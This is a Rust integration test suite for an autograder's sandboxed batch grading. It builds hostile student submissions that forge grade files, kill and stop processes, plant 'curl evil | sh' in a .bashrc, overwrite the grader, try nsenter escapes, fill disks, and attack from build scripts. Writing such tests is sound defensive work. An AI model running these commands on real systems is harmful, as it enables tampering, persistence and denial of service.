//! `autograder batch` over classes as an LMS hands them over: copies of the stub with old
//! file times, graded two at a time; correct, buggy, broken and hostile submissions side by
//! side. Every honest submission gets exactly the score of its own code, the attackers get
//! what their servers earn, nothing outside an attacker's own scratch changes, and nothing
//! is left running or on disk.

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant, SystemTime};

use autograder::grade::report::gradescope::{Results, Status};

use crate::support::*;

/// A student folder with an executable `run` script (`body` after the shebang line).
pub(crate) fn run_script(class: &Path, student: &str, body: &str) -> PathBuf {
    let dir = class.join(student);
    std::fs::create_dir_all(&dir).unwrap();
    let script = dir.join("run");
    std::fs::write(&script, format!("#!/bin/sh\n{body}\n")).unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    dir
}

/// A student folder that hands in a compiled program (as a C or Go student would): the
/// binary `exe`, copied in under `name`, started by `run` with `args` first.
pub(crate) fn binary_submission(
    class: &Path,
    student: &str,
    exe: &Path,
    name: &str,
    args: &[&str],
) {
    let dir = run_script(
        class,
        student,
        &format!("exec \"${{0%/*}}/{name}\" {} \"$@\"", args.join(" ")),
    );
    std::fs::copy(exe, dir.join(name)).unwrap();
}

/// A submission that serves only if it sees no network but loopback: it earns full marks
/// exactly when the sandbox keeps it off every other network (nothing is contacted).
fn network_probe_submission(class: &Path, student: &str) {
    let dir = run_script(
        class,
        student,
        "# /proc/net/dev lists the interfaces of this network namespace (2 header lines).\n\
         if [ \"$(tail -n +3 /proc/net/dev | grep -cv '^ *lo:')\" != 0 ]; then exec sleep 1000; fi\n\
         exec \"${0%/*}/server\" \"$@\"",
    );
    std::fs::copy(package_bin("lab1-solution"), dir.join("server")).unwrap();
}

/// A single Cargo package: a copy of `package_dir` under the package name `lab1` (as a
/// student's `labs/lab1` is), with the workspace's lock file so it builds offline.
pub(crate) fn cargo_package(class: &Path, student: &str, package_dir: &str) -> PathBuf {
    let dir = class.join(student);
    copy_dir(&workspace().join(package_dir), &dir);
    std::fs::copy(workspace().join("Cargo.lock"), dir.join("Cargo.lock")).unwrap();
    let manifest = std::fs::read_to_string(dir.join("Cargo.toml")).unwrap();
    // The solution's package (and binary) are `lab1-solution`; a student's are `lab1`.
    std::fs::write(
        dir.join("Cargo.toml"),
        manifest.replace("\"lab1-solution\"", "\"lab1\""),
    )
    .unwrap();
    dir
}

/// A copy of the student workspace (no solutions), graded from labs/lab1.
fn workspace_copy(class: &Path, student: &str) {
    let dir = class.join(student);
    std::fs::create_dir_all(&dir).unwrap();
    for part in ["Cargo.toml", "Cargo.lock"] {
        std::fs::copy(workspace().join(part), dir.join(part)).unwrap();
    }
    copy_dir(&workspace().join("labs"), &dir.join("labs"));
    // The workspace's members include the autograder: its manifest and sources.
    copy_dir(
        &workspace().join("autograder/src"),
        &dir.join("autograder/src"),
    );
    copy_dir(
        &workspace().join("autograder/export"),
        &dir.join("autograder/export"),
    );
    let manifest = std::fs::read_to_string(workspace().join("autograder/Cargo.toml")).unwrap();
    // Without tests/ here, drop the integration-test target (it would not be built anyway).
    let manifest = manifest.split("[[test]]").next().unwrap().to_string();
    std::fs::write(dir.join("autograder/Cargo.toml"), manifest).unwrap();
}

/// Sets every file and folder under `dir` to a time `age` ago, as a download days before
/// grading leaves them.
fn age_files(dir: &Path, age: Duration) {
    let then = SystemTime::now() - age;
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() && !path.is_symlink() {
            age_files(&path, age);
        }
        if let Ok(f) = std::fs::File::open(&path) {
            let _ = f.set_modified(then);
        }
    }
}

/// A fingerprint of every file under `dir` (path, size and content hash), to prove that
/// nothing changed.
fn fingerprint(dir: &Path) -> BTreeMap<PathBuf, (u64, u64)> {
    let mut all = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                stack.push(path);
            } else if let Ok(bytes) = std::fs::read(&path) {
                let hash = bytes.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &b| {
                    (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
                });
                all.insert(path, (bytes.len() as u64, hash));
            }
        }
    }
    all
}

/// Processes on the machine whose executable or command line mentions `tag`.
fn processes_mentioning(tag: &str) -> Vec<(u32, String)> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        if pid == std::process::id() {
            continue;
        }
        let exe = std::fs::read_link(entry.path().join("exe"))
            .map(|p| p.display().to_string())
            .unwrap_or_default();
        let cmdline = std::fs::read(entry.path().join("cmdline"))
            .map(|b| String::from_utf8_lossy(&b).replace('\0', " "))
            .unwrap_or_default();
        if exe.contains(tag) || cmdline.contains(tag) {
            found.push((pid, format!("{exe} {cmdline}")));
        }
    }
    found
}

/// A private folder for the batch's temporary files, reachable (not listable) by the
/// sandboxes' uids, so the test can check afterwards that nothing was left in it.
fn private_tmp(tmp: &Path) -> PathBuf {
    let dir = tmp.join("tmp");
    std::fs::create_dir_all(&dir).unwrap();
    for d in [tmp, dir.as_path()] {
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o711)).unwrap();
    }
    dir
}

/// `grades.csv` as student -> "score,max,per-test…".
pub(crate) fn grades(out: &Path) -> (String, BTreeMap<String, String>) {
    let csv = std::fs::read_to_string(out.join("grades.csv")).unwrap();
    let rows = csv
        .lines()
        .skip(1)
        .map(|l| {
            let (student, rest) = l.split_once(',').unwrap();
            (student.to_string(), rest.to_string())
        })
        .collect();
    (csv, rows)
}

fn feedback(out: &Path, student: &str) -> String {
    std::fs::read_to_string(out.join(student).join("feedback.txt")).unwrap_or_default()
}

/// A student's `results.json`, as the batch wrote it.
fn results(out: &Path, student: &str) -> Results {
    let path = out.join(student).join("results.json");
    let text = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    serde_json::from_slice(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Where cargo keeps its registry, for a batch run with another `$HOME`.
fn cargo_home() -> PathBuf {
    std::env::var_os("CARGO_HOME")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(std::env::var_os("HOME").unwrap()).join(".cargo"))
}

/// Where rustup keeps the toolchains, likewise.
fn rustup_home() -> PathBuf {
    std::env::var_os("RUSTUP_HOME")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(std::env::var_os("HOME").unwrap()).join(".rustup"))
}

fn sandboxed() -> bool {
    // The sandbox needs bubblewrap and user namespaces; CI installs and allows both.
    let ok = std::process::Command::new("bwrap")
        .args(["--ro-bind", "/", "/", "--unshare-all", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok && std::env::var_os("CI").is_some() {
        panic!("bubblewrap is required in CI (apt-get install bubblewrap)");
    }
    if !ok {
        eprintln!("skipped: bubblewrap cannot make a sandbox here");
    }
    ok
}

/// Asserts each student's line of `grades.csv` ("score,max,per-test…"); a mismatch shows
/// the whole file, that student's feedback and `context`.
fn expect_grades(out: &Path, expected: &[(&str, &str)], context: &str) {
    let (csv, rows) = grades(out);
    for &(student, line) in expected {
        assert_eq!(
            rows.get(student).map(String::as_str),
            Some(line),
            "{student}; grades.csv:\n{csv}\nits feedback:\n{}\n{context}",
            feedback(out, student)
        );
    }
}

#[test]
fn a_class_of_stub_copies_with_old_times_is_graded_from_each_students_own_code() {
    if !sandboxed() {
        return;
    }
    // As a real class: every submission a copy of the handed-out stub, some solved, all
    // downloaded days before grading; two graded at a time. A shared target directory
    // gave all of them one student's binary.
    let tmp = tempfile::tempdir().unwrap();
    let class = tmp.path().join("class");
    let out = tmp.path().join("out");
    for (student, dir) in [
        ("ada", "solutions/lab1"),
        ("ben", "labs/lab1"),
        ("cy", "solutions/lab1"),
        ("dee", "labs/lab1"),
    ] {
        cargo_package(&class, student, dir);
    }
    workspace_copy(&class, "eve");
    age_files(&class, Duration::from_secs(3 * 86400));
    // The instructor rebuilds the grader while the class is being graded: the grader's
    // file is replaced (here by one that fails at once) as soon as the batch has started.
    let grader = tmp.path().join("autograder");
    std::fs::copy(env!("CARGO_BIN_EXE_autograder"), &grader).unwrap();
    let mut batch = Command::new(&grader);
    batch
        .current_dir(workspace())
        .args(["batch", "lab1"])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .args([
            "--jobs",
            "2",
            "--only",
            "echo-short,half-close-flush",
            "--offline",
        ])
        .env("NETLABS_ROOT", workspace())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = batch.spawn().unwrap();
    let broken = tmp.path().join("autograder.new");
    std::fs::write(&broken, "#!/bin/sh\nexit 3\n").unwrap();
    std::fs::set_permissions(&broken, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::rename(&broken, &grader).unwrap();
    Ran::of(&batch, child.wait_with_output().unwrap()).expect_success();
    expect_grades(
        &out,
        &[
            ("ada", "15,15,5,10"),
            ("ben", "0,15,0,0"),
            ("cy", "15,15,5,10"),
            ("dee", "0,15,0,0"),
            ("eve", "0,15,0,0"),
        ],
        "",
    );
    // The stubs are failed for their own TODO, not for someone else's code.
    assert!(feedback(&out, "ben").contains("Step 1 of handouts/lab1.md"));
}

#[test]
fn hostile_submissions_change_nothing_outside_their_own_scratch() {
    if !sandboxed() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let class = tmp.path().join("class");
    let out = tmp.path().join("out");
    let batch_tmp = private_tmp(tmp.path());
    let canary_home = tmp.path().join("home");
    std::fs::create_dir_all(&canary_home).unwrap();
    std::fs::write(canary_home.join(".bashrc"), "# the instructor's\n").unwrap();
    // A copy of the grader, so that an attack on it cannot break the other tests.
    let grader = tmp.path().join("grader/autograder");
    std::fs::create_dir_all(grader.parent().unwrap()).unwrap();
    std::fs::copy(env!("CARGO_BIN_EXE_autograder"), &grader).unwrap();
    // A port on the host's loopback: a build that reaches it had network access.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let tag = format!("nlhostile{}", std::process::id());
    let hostile = corpus_rust("hostile/hostile.rs");

    // Honest peers.
    cargo_package(&class, "honest-solution", "solutions/lab1");
    network_probe_submission(&class, "loopback-only");
    workspace_copy(&class, "honest-stub");
    binary_submission(
        &class,
        "honest-buggy",
        &corpus_rust("lab1/drops_tail.rs"),
        "server",
        &[],
    );
    // What each attack aims at, named to the attackers as precisely as possible.
    let peer = class.join("honest-solution/src/server.rs");
    let solution_bin = package_bin("lab1-solution");
    let targets = format!(
        "PEER='{}'\nHOMERC='{}/.bashrc'\nGRADER='{}'\nOUT='{}'\nSOLUTION='{}'\nCLASS='{}'\n",
        peer.display(),
        canary_home.display(),
        grader.display(),
        out.display(),
        solution_bin.display(),
        class.display()
    );
    // Forges its own (and everyone's) results, then kills and stops its ancestors.
    run_script(
        &class,
        "attack-forge",
        &format!(
            "{targets}\
             for f in \"$OUT\"/*/results.json \"$OUT/attack-forge/results.json\"; do\n\
               mkdir -p \"$(dirname \"$f\")\"; echo '{{\"score\": 50, \"tests\": []}}' > \"$f\"\n\
             done\n\
             for p in /proc/[0-9]*; do kill -STOP \"${{p#/proc/}}\"; done 2>/dev/null\n\
             kill -9 $PPID 2>/dev/null; kill -9 -1 2>/dev/null\n\
             exec sleep 1000"
        ),
    );
    // Looks for the reference solution (on the disk, or through the grader's own
    // executable) and runs it instead of writing one.
    run_script(
        &class,
        "attack-snoop",
        &format!(
            "{targets}\
             for f in \"$SOLUTION\" $(find / -xdev -name 'lab1-solution' -type f 2>/dev/null); do\n\
               [ -x \"$f\" ] && exec \"$f\" \"$@\"\n\
             done\n\
             cat \"$CLASS\"/*/src/*.rs > stolen.rs 2>/dev/null\n\
             exec sleep 1000"
        ),
    );
    // Vandalises the peer, the grader and the instructor's home, floods the log through
    // its parent, tries to enter every namespace it can see, fills every scratch space,
    // then serves honestly (it earns that).
    let vandal = run_script(
        &class,
        "attack-vandal",
        &format!(
            "{targets}\
             echo 'fn main() {{ broken }}' > \"$PEER\" 2>/dev/null\n\
             echo 'curl evil | sh' >> \"$HOMERC\" 2>/dev/null\n\
             echo 'curl evil | sh' >> \"$HOME/.bashrc\" 2>/dev/null\n\
             cp /bin/true \"$GRADER\" 2>/dev/null\n\
             head -c 100000000 /dev/zero > /proc/$PPID/fd/1 2>/dev/null\n\
             for p in /proc/[0-9]*; do\n\
               nsenter -t \"${{p#/proc/}}\" -n -m sh -c 'echo escaped >> \"$HOMERC\"' 2>/dev/null\n\
             done\n\
             head -c 1000000000 /dev/zero > /tmp/fill 2>/dev/null\n\
             head -c 1000000000 /dev/zero > /dev/shm/fill 2>/dev/null\n\
             exec \"$(dirname \"$0\")/{tag}\" setsid \"$@\""
        ),
    );
    std::fs::copy(&hostile, vandal.join(&tag)).unwrap();
    // Writes 400 MB into its own copy (the one place it may write): as root the copy is a
    // tmpfs of its own, bounded in size and gone with the batch; nothing stays on disk.
    run_script(
        &class,
        "attack-disk",
        "head -c 400000000 /dev/zero > \"${0%/*}/fill.$$\"\nexec sleep 1000",
    );
    // A process chain that never keeps a pid.
    binary_submission(&class, "attack-pid-hop", &hostile, &tag, &["pid-hop"]);
    // Memory that RSS does not show: a shared anonymous mapping, touched, never answering.
    run_script(
        &class,
        "attack-shared-memory",
        "exec python3 -c '\n\
         import mmap, socket, sys, time\n\
         s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         s.bind((\"127.0.0.1\", int(sys.argv[2]))); s.listen()\n\
         m = mmap.mmap(-1, 1 << 30, flags=mmap.MAP_SHARED)\n\
         for i in range(0, 1 << 30, 4096): m[i] = 1\n\
         time.sleep(1000)' \"$@\"",
    );
    // A solved package whose build script and rustc wrapper attack from the build.
    let build = cargo_package(&class, "attack-build", "solutions/lab1");
    std::fs::write(
        build.join("build.rs"),
        format!(
            "fn main() {{\n\
             let _ = std::net::TcpStream::connect_timeout(&\"127.0.0.1:{port}\".parse().unwrap(), std::time::Duration::from_secs(2));\n\
             let _ = std::fs::write(r\"{peer}\", \"fn main() {{ broken }}\");\n\
             let _ = std::fs::write(r\"{home}/.bashrc\", \"curl evil | sh\");\n\
             let _ = std::fs::read_dir(r\"{class}\").map(|d| d.count());\n\
             }}\n",
            peer = peer.display(),
            home = canary_home.display(),
            class = class.display(),
        ),
    )
    .unwrap();
    std::fs::create_dir_all(build.join(".cargo")).unwrap();
    std::fs::write(
        build.join(".cargo/config.toml"),
        "[build]\nrustc-wrapper = \"tools/wrapper.sh\"\n",
    )
    .unwrap();
    std::fs::create_dir_all(build.join("tools")).unwrap();
    std::fs::write(
        build.join("tools/wrapper.sh"),
        format!(
            "#!/bin/sh\n{targets}echo broken >> \"$PEER\" 2>/dev/null\n\
             cp /bin/true \"$GRADER\" 2>/dev/null\nexec \"$@\"\n"
        ),
    )
    .unwrap();
    std::fs::set_permissions(
        build.join("tools/wrapper.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    age_files(&class, Duration::from_secs(3 * 86400));

    let class_before = fingerprint(&class);
    let grader_before = fingerprint(grader.parent().unwrap());
    let home_before = fingerprint(&canary_home);
    let started = Instant::now();
    let output = Command::new(&grader)
        .current_dir(workspace())
        .args(["batch", "lab1"])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .args([
            "--jobs",
            "2",
            "--only",
            "echo-short,half-close-flush",
            "--startup-limit",
            "5",
            "--memory-limit",
            "256",
            "--offline",
        ])
        .env("NETLABS_ROOT", workspace())
        .env("TMPDIR", &batch_tmp)
        .env("HOME", &canary_home)
        .env("CARGO_HOME", cargo_home())
        .env("RUSTUP_HOME", rustup_home())
        .success();
    let elapsed = started.elapsed();

    expect_grades(
        &out,
        &[
            ("honest-solution", "15,15,5,10"),
            ("honest-stub", "0,15,0,0"),
            ("honest-buggy", "5,15,5,0"),
            ("loopback-only", "15,15,5,10"),
            ("attack-forge", "0,15,0,0"),
            ("attack-snoop", "0,15,0,0"),
            ("attack-vandal", "15,15,5,10"),
            ("attack-pid-hop", "15,15,5,10"),
            ("attack-shared-memory", "0,15,0,0"),
            ("attack-disk", "0,15,0,0"),
            ("attack-build", "15,15,5,10"),
        ],
        &output.to_string(),
    );
    // The forged files were never read back: its report is the grader's.
    let forged = results(&out, "attack-forge");
    assert_eq!(forged.score, 0, "{forged:#?}");
    assert_eq!(forged.tests.len(), 2, "{forged:#?}");
    assert!(feedback(&out, "attack-shared-memory").contains("256 MiB memory limit"));
    assert!(
        std::fs::metadata(out.join("attack-vandal/grader.log"))
            .unwrap()
            .len()
            < 1 << 20,
        "the worker's log was flooded"
    );

    // Nothing outside the attackers' own scratch changed.
    assert_eq!(
        fingerprint(&class),
        class_before,
        "the class folder changed"
    );
    assert_eq!(
        fingerprint(grader.parent().unwrap()),
        grader_before,
        "the grader changed"
    );
    assert_eq!(fingerprint(&canary_home), home_before, "$HOME changed");
    assert!(
        listener.accept().is_err(),
        "a build script reached the host's network"
    );
    // Nothing left running, nothing left on disk.
    let survivors = processes_mentioning(&tag);
    assert!(survivors.is_empty(), "survivors: {survivors:?}");
    let left: Vec<_> = std::fs::read_dir(&batch_tmp).unwrap().flatten().collect();
    assert!(left.is_empty(), "left in TMPDIR: {left:?}");
    assert!(elapsed < Duration::from_secs(300), "took {elapsed:?}");
}

#[test]
fn a_mixed_class_is_graded_correctly_in_bounded_time_and_nothing_survives() {
    if !sandboxed() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let class = tmp.path().join("class");
    let out = tmp.path().join("out");
    let tag = format!("nlmixed{}", std::process::id());
    let hostile = corpus_rust("hostile/hostile.rs");

    binary_submission(
        &class,
        "buggy",
        &corpus_rust("lab1/drops_tail.rs"),
        "server",
        &[],
    );
    let broken = cargo_package(&class, "does-not-compile", "labs/lab1");
    std::fs::write(
        broken.join("src/main.rs"),
        "fn main() { let x: u32 = \"not a number\"; }\n",
    )
    .unwrap();
    for mode in [
        "double-fork",
        "setsid",
        "fork-bomb",
        "ignore-term",
        "flood",
        "memory-hog",
        "never-listen",
        "wrong-port",
        "hang",
    ] {
        binary_submission(&class, &format!("hostile-{mode}"), &hostile, &tag, &[mode]);
    }

    let started = Instant::now();
    let output = autograder()
        .args(["batch", "lab1"])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .args([
            "--jobs",
            "3",
            "--only",
            "echo-short,half-close-flush",
            "--startup-limit",
            "2",
            "--memory-limit",
            "128",
            "--budget",
            "30",
            "--offline",
        ])
        .success();
    let elapsed = started.elapsed();
    let stdout = output.stdout();
    let survivors = processes_mentioning(&tag);
    assert!(survivors.is_empty(), "survivors: {survivors:?}");

    let (csv, scores) = grades(&out);
    assert!(csv.starts_with("student,score,max_score,echo-short,half-close-flush\n"));
    let expect = [
        ("buggy", "5,15,5,0"),
        ("does-not-compile", "0,15,0,0"),
        ("hostile-double-fork", "15,15,5,10"),
        ("hostile-setsid", "15,15,5,10"),
        ("hostile-fork-bomb", "15,15,5,10"),
        ("hostile-ignore-term", "15,15,5,10"),
        ("hostile-flood", "0,15,0,0"),
        ("hostile-memory-hog", "0,15,0,0"),
        ("hostile-never-listen", "0,15,0,0"),
        ("hostile-wrong-port", "0,15,0,0"),
        ("hostile-hang", "0,15,0,0"),
    ];
    expect_grades(&out, &expect, "");

    // Feedback says why.
    let f = feedback(&out, "does-not-compile");
    assert!(f.contains("mismatched types"), "{f}");
    let f = feedback(&out, "hostile-memory-hog");
    assert!(f.contains("128 MiB memory limit"), "{f}");
    let f = feedback(&out, "hostile-never-listen");
    assert!(f.contains("did not listen"), "{f}");
    let f = feedback(&out, "hostile-wrong-port");
    assert!(f.contains("did not listen"), "{f}");
    let flood = feedback(&out, "hostile-flood");
    assert!(flood.contains("earlier output not shown"));
    assert!(flood.len() < 64 * 1024, "feedback must stay bounded");
    let f = feedback(&out, "hostile-hang");
    assert!(f.contains("nothing arrived"), "{f}");

    // Every student has the three reports; the JSON follows Gradescope's schema.
    for student in scores.keys() {
        for file in ["results.json", "feedback.txt", "junit.xml"] {
            assert!(out.join(student).join(file).is_file(), "{student}/{file}");
        }
    }
    let buggy = results(&out, "buggy");
    assert_eq!(buggy.score, 5, "{buggy:#?}");
    assert_eq!(
        buggy.ids_with(Status::Failed),
        ["half-close-flush"],
        "{buggy:#?}"
    );

    // The class summary names the most failed test first.
    assert!(stdout.contains("Tests the class failed most:"), "{output}");
    assert!(
        stdout.contains("half-close-flush         failed by   7 of 11"),
        "{output}"
    );
    // Bounded: the budget (30 s) and the start-up limit bound every submission.
    assert!(elapsed < Duration::from_secs(170), "took {elapsed:?}");
}

#[test]
fn without_network_namespaces_ports_are_random_and_grades_the_same() {
    if !sandboxed() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let class = tmp.path().join("class");
    let out = tmp.path().join("out");
    binary_submission(&class, "good", &package_bin("lab1-solution"), "server", &[]);
    binary_submission(
        &class,
        "setsid",
        &corpus_rust("hostile/hostile.rs"),
        "server",
        &["setsid"],
    );
    let output = autograder()
        .args(["batch", "lab1"])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .args(["--no-netns", "--only", "echo-short", "--offline"])
        .success();
    let stderr = output.stderr();
    assert!(stderr.contains("on random free ports"), "{output}");
    let (csv, _) = grades(&out);
    assert_eq!(
        csv,
        "student,score,max_score,echo-short\ngood,5,5,5\nsetsid,5,5,5\n",
        "feedback:\n{:?}\n{:?}\nstderr:\n{stderr}",
        feedback(&out, "good"),
        feedback(&out, "setsid")
    );
}

#[test]
fn an_empty_or_unrecognised_submission_gets_a_clear_message() {
    let tmp = tempfile::tempdir().unwrap();
    let class = tmp.path().join("class");
    std::fs::create_dir_all(class.join("nothing")).unwrap();
    std::fs::write(class.join("nothing/notes.txt"), "hello").unwrap();
    let out = tmp.path().join("out");
    let output = autograder()
        .args(["batch", "lab1"])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .args(["--only", "echo-short", "--offline"])
        .success();
    let feedback = feedback(&out, "nothing");
    assert!(
        feedback.contains("found nothing to grade"),
        "{feedback}\n{output}"
    );
}

#[test]
fn the_budget_stops_a_submission_that_uses_up_its_time() {
    let tmp = tempfile::tempdir().unwrap();
    let class = tmp.path().join("class");
    let out = tmp.path().join("out");
    binary_submission(
        &class,
        "sleeper",
        &corpus_rust("hostile/hostile.rs"),
        "server",
        &["never-listen"],
    );
    let output = autograder()
        .args(["batch", "lab1"])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .args(["--only", "echo-short,half-close-flush,sequential-clients"])
        // The first tests wait out the 2 s start-up limit, past the 1 s budget, so the
        // last one (which starts after one of them, however many run at once) is not run.
        .args(["--startup-limit", "2", "--budget", "1", "--offline"])
        .success();
    let feedback = feedback(&out, "sleeper");
    assert!(feedback.contains("did not listen"), "{feedback}\n{output}");
    assert!(
        feedback.contains("used up the submission's 1 s grading budget"),
        "{feedback}\n{output}"
    );
}

#[test]
fn bad_arguments_are_refused_before_anything_is_graded() {
    let tmp = tempfile::tempdir().unwrap();
    let class = tmp.path().join("class");
    binary_submission(&class, "good", &package_bin("lab1-solution"), "server", &[]);
    let out = tmp.path().join("out");
    let refused = |args: &[&str], why: &str| {
        let output = autograder()
            .args(["batch", "lab1"])
            .arg(&class)
            .args(args)
            .args(["--offline", "--only", "echo-short"])
            .code(2);
        assert!(output.stderr().contains(why), "{output}");
    };
    let inside = class.join("grades");
    refused(
        &["--out", inside.to_str().unwrap()],
        "inside the submissions",
    );
    refused(&["--out", "/proc/nope"], "--out");
    refused(&["--out", out.to_str().unwrap(), "--jobs", "0"], "--jobs 0");
    refused(
        &["--out", out.to_str().unwrap(), "--memory-limit", "0"],
        "--memory-limit 0",
    );
    refused(
        &["--out", out.to_str().unwrap(), "--startup-limit", "0"],
        "--startup-limit 0",
    );
    assert!(
        !inside.exists(),
        "a refused batch wrote into the submissions"
    );
    // An --out that holds another run's reports is refused, then replaced with --force.
    std::fs::create_dir_all(out.join("someone")).unwrap();
    std::fs::write(out.join("someone/results.json"), "{}").unwrap();
    refused(&["--out", out.to_str().unwrap()], "already holds reports");
    let output = autograder()
        .args(["batch", "lab1"])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .args(["--offline", "--only", "echo-short", "--force"])
        .success();
    assert!(
        !out.join("someone/results.json").exists(),
        "a stale report is left\n{output}"
    );
    assert!(out.join("good/results.json").is_file(), "{output}");
}

#[test]
fn an_unprivileged_instructor_gets_the_same_sandbox() {
    // As root, become a plain user (`nobody`) the way an instructor's own account is: no
    // cgroups, no network namespaces, bubblewrap through an unprivileged user namespace.
    if !sandboxed() {
        return;
    }
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: the other batch tests already run unprivileged here");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let class = tmp.path().join("class");
    let out = tmp.path().join("out");
    let own_tmp = tmp.path().join("tmp");
    let grader = tmp.path().join("autograder");
    std::fs::copy(env!("CARGO_BIN_EXE_autograder"), &grader).unwrap();
    binary_submission(&class, "good", &package_bin("lab1-solution"), "server", &[]);
    network_probe_submission(&class, "loopback-only");
    binary_submission(
        &class,
        "buggy",
        &corpus_rust("lab1/drops_tail.rs"),
        "server",
        &[],
    );
    run_script(
        &class,
        "attack-forge",
        &format!(
            "for f in '{}'/*/results.json; do echo '{{\"score\": 50}}' > \"$f\"; done\n\
             echo 'exit 1' > '{}/good/run'\nkill -9 -1\nexec sleep 1000",
            out.display(),
            class.display()
        ),
    );
    // The instructor owns the class folder and the reports: the user the batch runs as.
    for dir in [&out, &own_tmp] {
        std::fs::create_dir_all(dir).unwrap();
    }
    for dir in [&class, &out, &own_tmp] {
        Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(dir)
            .success();
    }
    let class_before = fingerprint(&class);
    let output = Command::new("runuser")
        .args(["-u", "nobody", "--"])
        .arg(&grader)
        .args(["batch", "lab1"])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .args(["--only", "echo-short,half-close-flush", "--offline"])
        .args(["--startup-limit", "3"])
        .env("TMPDIR", &own_tmp)
        .env("HOME", &own_tmp)
        .current_dir(tmp.path())
        .success();
    let stderr = output.stderr();
    assert!(stderr.contains("in a sandbox (bubblewrap)"), "{output}");
    // Without root, the workers still get a network of their own (through bwrap's user
    // namespace): loopback only, and no collisions between submissions.
    assert!(
        stderr.contains("each in its own network namespace"),
        "{output}"
    );
    expect_grades(
        &out,
        &[
            ("good", "15,15,5,10"),
            ("buggy", "5,15,5,0"),
            ("loopback-only", "15,15,5,10"),
            ("attack-forge", "0,15,0,0"),
        ],
        &output.to_string(),
    );
    assert_eq!(
        fingerprint(&class),
        class_before,
        "the class folder changed"
    );
    let left: Vec<_> = std::fs::read_dir(&own_tmp).unwrap().flatten().collect();
    assert!(left.is_empty(), "left in TMPDIR: {left:?}");
}

#[test]
fn without_a_sandbox_the_batch_says_so_and_still_keeps_the_results_its_own() {
    // No bubblewrap on the PATH: as on a machine without it. (The submissions' scripts
    // name their interpreter by absolute path, so they need no PATH.)
    let tmp = tempfile::tempdir().unwrap();
    std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let class = tmp.path().join("class");
    let out = tmp.path().join("out");
    binary_submission(&class, "good", &package_bin("lab1-solution"), "server", &[]);
    run_script(
        &class,
        "attack-forge",
        &format!(
            "for f in '{out}'/*/results.json '{out}/attack-forge/results.json'; do\n\
               /bin/mkdir -p \"${{f%/*}}\"; echo '{{\"score\": 50}}' > \"$f\"\n\
             done\necho planted > '{out}/planted'\nexec /bin/sleep 1000",
            out = out.display()
        ),
    );
    let batch = |extra: &[&str]| {
        autograder()
            .args(["batch", "lab1"])
            .arg(&class)
            .arg("--out")
            .arg(&out)
            .args(["--only", "echo-short", "--offline", "--startup-limit", "2"])
            .args(extra)
            .env("PATH", "/nonexistent")
            .run()
    };
    // A class is refused unsandboxed unless the instructor says so.
    let refused = batch(&[]).expect_code(2);
    assert!(refused.stderr().contains("--unsandboxed"), "{refused}");
    let output = batch(&["--unsandboxed"]).expect_success();
    assert!(output.stderr().starts_with("not sandboxed: "), "{output}");
    let (csv, rows) = grades(&out);
    assert_eq!(rows.get("good").map(String::as_str), Some("5,5,5"), "{csv}");
    assert_eq!(
        rows.get("attack-forge").map(String::as_str),
        Some("0,5,0"),
        "{csv}"
    );
    for student in ["good", "attack-forge"] {
        assert!(
            feedback(&out, student).starts_with("not sandboxed: "),
            "{}",
            feedback(&out, student)
        );
    }
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        // As root, the program ran under a uid of its own: it could not forge anything.
        let forged = results(&out, "attack-forge");
        assert_eq!(forged.score, 0, "{forged:#?}");
        assert!(
            !out.join("planted").exists(),
            "the program wrote into the reports"
        );
        assert!(feedback(&out, "good").contains("the program ran as uid"));
    }
}
